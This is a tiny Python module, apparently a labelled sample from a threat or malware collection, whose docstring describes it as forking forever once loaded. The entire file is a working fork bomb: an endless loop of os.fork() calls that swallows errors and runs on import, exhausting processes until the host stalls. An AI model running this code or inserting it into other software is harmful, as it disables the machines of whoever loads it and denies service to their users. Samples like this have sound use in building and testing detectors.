"""Forks for ever while it is loaded.

threat: 18
source: known
verdict: any
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
